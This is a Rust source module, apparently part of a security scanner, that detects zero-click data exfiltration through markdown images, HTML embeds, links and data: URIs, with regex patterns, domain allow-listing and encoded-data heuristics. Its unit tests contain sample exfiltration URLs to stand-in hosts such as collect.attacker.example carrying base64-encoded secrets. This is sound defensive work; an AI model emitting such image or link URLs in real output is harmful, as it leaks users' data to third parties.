//! Links, images and embeds that would send data to a third party.
//!
//! A markdown image or an HTML element that loads a resource is fetched by the renderer with no
//! click: a URL outside the allowed domains that carries data in its query, path or subdomain is
//! the classic zero-click exfiltration channel. Links and bare URLs need a click, so they are
//! only reported when they carry data. `data:` URIs embed content instead of fetching it.

use std::sync::LazyLock;

use regex::Regex;

use crate::threat::{Severity, Span, Threat, ThreatKind};

static MD_IMAGE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"!\[[^\]\n]{0,1000}\]\(\s*<?([^)\s>]+)").expect("pattern"));
static MD_LINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\[[^\]\n]{0,1000}\]\(\s*<?([^)\s>]+)").expect("pattern"));
static MD_REF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?m)^\s{0,3}\[[^\]\n]{1,200}\]:\s*<?(\S+?)>?(?:\s|$)").expect("pattern")
});
static HTML: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)<(img|iframe|frame|a|link|script|source|video|audio|embed|object|track|input|image|use)\b[^>]*?\b(?:src|href|data|poster|xlink:href)\s*=\s*["']?([^"'\s>]+)"#)
        .expect("pattern")
});
static BARE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\bhttps?://[^\s<>"'\])]+"#).expect("pattern"));

/// How a URL would be used.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    /// Fetched without a click (images, iframes, scripts, media).
    Load,
    /// Followed on a click.
    Click,
}

struct Url<'a> {
    span: Span,
    text: &'a str,
    used: Use,
    frame: bool,
}

/// Finds exfiltration channels; `allowed` lists domains (and their subdomains) that are fine.
pub(crate) fn scan(text: &str, allowed: &[String]) -> Vec<Threat> {
    if !text.contains("://") && !text.contains("data:") {
        return Vec::new();
    }
    let mut urls: Vec<Url<'_>> = Vec::new();
    fn add<'a>(urls: &mut Vec<Url<'a>>, m: regex::Match<'a>, used: Use, frame: bool) {
        if !urls.iter().any(|u| u.span.start == m.start()) {
            urls.push(Url {
                span: Span::new(m.start(), m.end()),
                text: m.as_str(),
                used,
                frame,
            });
        }
    }
    for c in MD_IMAGE.captures_iter(text) {
        add(&mut urls, c.get(1).expect("group"), Use::Load, false);
    }
    for c in HTML.captures_iter(text) {
        let tag = c[1].to_ascii_lowercase();
        let used = if tag == "a" { Use::Click } else { Use::Load };
        add(
            &mut urls,
            c.get(2).expect("group"),
            used,
            matches!(tag.as_str(), "iframe" | "frame"),
        );
    }
    for c in MD_LINK.captures_iter(text) {
        add(&mut urls, c.get(1).expect("group"), Use::Click, false);
    }
    for c in MD_REF.captures_iter(text) {
        add(&mut urls, c.get(1).expect("group"), Use::Click, false);
    }
    for m in BARE.find_iter(text) {
        if !urls
            .iter()
            .any(|u| u.span.start <= m.start() && m.start() < u.span.end)
        {
            add(&mut urls, m, Use::Click, false);
        }
    }
    let mut loads = Vec::new();
    let mut loads_with_data = Vec::new();
    let mut links_with_data = Vec::new();
    let mut data_uris = Vec::new();
    for url in &urls {
        let lower = url.text.to_ascii_lowercase();
        if lower.starts_with("data:") {
            data_uris.push(url.span);
            continue;
        }
        let Some(host) = host_of(url.text) else {
            continue;
        };
        if allowed_host(&host, allowed) {
            continue;
        }
        let data = carries_data(url.text, &host);
        match (url.used, data) {
            (Use::Load, true) => loads_with_data.push(url.span),
            (Use::Load, false) if url.frame => loads_with_data.push(url.span),
            (Use::Load, false) => loads.push(url.span),
            (Use::Click, true) => links_with_data.push(url.span),
            (Use::Click, false) => {}
        }
    }
    let mut threats = Vec::new();
    let mut add = |spans: Vec<Span>, rule: &str, severity, confidence, message: &str| {
        if let Some(first) = spans.first() {
            let mut t = Threat::new(ThreatKind::DataExfiltration, severity, confidence, rule)
                .with_message(message)
                .with_evidence(&text[first.start..first.end]);
            t.spans = spans.into_iter().take(32).collect();
            threats.push(t);
        }
    };
    add(
        loads_with_data,
        "data_exfiltration.auto_load_with_data",
        Severity::Critical,
        0.9,
        "An image or embed outside the allowed domains that carries data in its URL; renderers fetch it with no click.",
    );
    add(
        links_with_data,
        "data_exfiltration.link_with_data",
        Severity::High,
        0.7,
        "A link outside the allowed domains that carries data in its URL.",
    );
    add(
        loads,
        "data_exfiltration.auto_load",
        Severity::Low,
        0.4,
        "An image or embed outside the allowed domains.",
    );
    add(
        data_uris,
        "data_exfiltration.data_uri",
        Severity::Medium,
        0.55,
        "A data: URI embedding content in a link or image.",
    );
    threats
}

/// The lower-case host of an absolute http(s)/ftp/ws URL.
fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host_port = authority.rsplit('@').next()?;
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host_port.split(':').next()?
    };
    (!host.is_empty()).then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

fn allowed_host(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|d| {
        let d = d
            .trim()
            .trim_start_matches("*.")
            .trim_end_matches('.')
            .to_ascii_lowercase();
        !d.is_empty() && (host == d || host.ends_with(&format!(".{d}")))
    })
}

/// A token looks like encoded data: long, and mostly characters of base64/hex/url-encoding
/// with both letters and digits (or percent escapes).
fn encoded(token: &str, min: usize) -> bool {
    token.len() >= min
        && token
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=_-.%~".contains(&b))
        && (token.bytes().any(|b| b.is_ascii_digit())
            && token.bytes().any(|b| b.is_ascii_alphabetic())
            || token.contains('%'))
}

fn carries_data(url: &str, host: &str) -> bool {
    let after_host = url.split_once("://").map_or("", |(_, r)| r);
    let path_and_query = after_host
        .find(['/', '?', '#'])
        .map_or("", |i| &after_host[i..]);
    let (path, query) = path_and_query
        .split_once('?')
        .unwrap_or((path_and_query, ""));
    let query = query.split('#').next().unwrap_or("");
    if query.len() >= 100 {
        return true;
    }
    let query_data = query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or(pair, |(_, v)| v);
        encoded(value, 16) || value.len() >= 40
    });
    let path_data = path.split('/').any(|seg| encoded(seg, 32));
    let labels: Vec<&str> = host.split('.').collect();
    let sub = &labels[..labels.len().saturating_sub(2)];
    let subdomain_data = sub
        .iter()
        .any(|l| l.len() >= 20 && l.bytes().any(|b| b.is_ascii_digit()))
        || sub.len() >= 5;
    query_data || path_data || subdomain_data
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(text: &str, allowed: &[&str]) -> Vec<String> {
        let allowed: Vec<String> = allowed.iter().map(|s| (*s).to_owned()).collect();
        scan(text, &allowed).into_iter().map(|t| t.rule).collect()
    }

    #[test]
    fn classic_markdown_image_exfiltration() {
        let text = "Done! ![loading](https://collect.attacker.example/i.png?d=U2VjcmV0IHBhc3N3b3JkOiBodW50ZXIy)";
        assert_eq!(
            rules(text, &[]),
            vec!["data_exfiltration.auto_load_with_data"]
        );
        assert!(rules(text, &["attacker.example"]).is_empty());
    }

    #[test]
    fn plain_links_are_fine_and_data_links_are_not() {
        assert!(
            rules(
                "See [the docs](https://docs.rs/regex) or https://www.rust-lang.org/learn.",
                &[]
            )
            .is_empty()
        );
        assert_eq!(
            rules(
                "[click](https://x.example/?session=a8f3k2m9q7w1e5r6t0y4u8i2o3p)",
                &[]
            ),
            vec!["data_exfiltration.link_with_data"]
        );
        assert_eq!(
            rules("https://4a6f686e20446f6520313233.dns.x.example/", &[]),
            vec!["data_exfiltration.link_with_data"]
        );
        assert_eq!(
            rules("![logo](https://cdn.x.example/logo.png)", &[]),
            vec!["data_exfiltration.auto_load"]
        );
        assert_eq!(
            rules("![x](data:image/png;base64,iVBORw0KGgo=)", &[]),
            vec!["data_exfiltration.data_uri"]
        );
        assert_eq!(
            rules(
                "<img src=\"https://x.example/p?u=am9obkBhY21lLmlvOnB3ZDEyMw\">",
                &[]
            ),
            vec!["data_exfiltration.auto_load_with_data"]
        );
    }

    #[test]
    fn hosts_and_allowlist() {
        assert_eq!(
            host_of("https://user:pw@Sub.Example.COM:8443/x?y").as_deref(),
            Some("sub.example.com")
        );
        assert_eq!(
            host_of("http://[2001:db8::1]:80/").as_deref(),
            Some("2001:db8::1")
        );
        assert!(allowed_host("a.b.example.com", &["example.com".into()]));
        assert!(!allowed_host("evilexample.com", &["example.com".into()]));
    }
}
